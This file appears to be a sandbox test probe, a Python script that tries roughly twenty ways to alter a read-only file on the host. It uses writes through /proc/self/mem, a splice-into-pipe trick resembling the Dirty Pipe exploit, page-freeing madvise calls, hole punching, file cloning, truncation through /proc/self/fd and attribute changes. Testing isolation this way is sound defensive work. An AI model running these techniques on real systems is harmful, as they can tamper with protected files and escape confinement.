"""Tries to change a file that may only be read (the input, a file of the interpreter), by every way around its mode.

Through /proc/self/mem into a shared mapping; through pages given to a pipe by splice and written there; by holes,
copies and clones into it; by advice that frees its pages; by attributes of its node.
Breach: the bytes, the size or the times of the file on the host are others than before.
"""

import ctypes
import fcntl
import os
import struct

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
MARK = b"CHANGED!"


def attempts(path):
    file = os.open(path, os.O_RDONLY)
    place = LIBC.mmap(None, 4096, 1, 1, file, 0)

    def memory():
        with open("/proc/self/mem", "r+b", 0) as own:
            own.seek(place)
            own.write(MARK)

    def protect():
        if LIBC.mprotect(ctypes.c_void_p(place), 4096, 3) != 0:
            raise OSError("refused")
        ctypes.memmove(place, MARK, len(MARK))

    def pipe():
        out, into = os.pipe()
        # A pipe whose every buffer was used once, so that their flags are set.
        size = fcntl.fcntl(into, 1032)
        os.write(into, bytes(size))
        os.read(out, size)
        os.splice(file, into, 1, offset_src=0)
        os.write(into, MARK)

    def advise(advice):
        if LIBC.madvise(ctypes.c_void_p(place), 4096, advice) != 0:
            raise OSError("refused")

    def hole(mode):
        if LIBC.fallocate(file, mode, ctypes.c_long(0), ctypes.c_long(4096)) != 0:
            raise OSError("refused")

    def own():
        with open("own", "wb") as made:
            made.write(MARK * 512)
        return os.open("own", os.O_RDONLY)

    return [
        memory,
        protect,
        pipe,
        lambda: advise(9),  # MADV_REMOVE
        lambda: advise(23),  # MADV_POPULATE_WRITE
        lambda: hole(3),  # punch
        lambda: hole(8),  # collapse
        lambda: hole(16),  # zero
        lambda: os.copy_file_range(own(), file, 8),
        lambda: os.sendfile(file, own(), 0, 8),
        lambda: os.ftruncate(file, 0),
        lambda: os.truncate(f"/proc/self/fd/{file}", 0),
        lambda: os.write(os.open(f"/proc/self/fd/{file}", os.O_RDWR), MARK),
        lambda: os.utime(file, (1, 1)),
        lambda: os.fchmod(file, 0o666),
        lambda: os.link(f"/proc/self/fd/{file}", "linked", follow_symlinks=True),
        lambda: fcntl.ioctl(file, 0x40049409, own()),  # FICLONE
        lambda: fcntl.ioctl(file, 0x40086602, struct.pack("l", 0)),  # FS_IOC_SETFLAGS
        lambda: os.preadv(file, [bytearray(8)], 0),
    ]


for path in (PATHS):
    for attempt in attempts(path):
        try:
            attempt()
        except (OSError, ValueError, OverflowError):
            pass
print("tried")
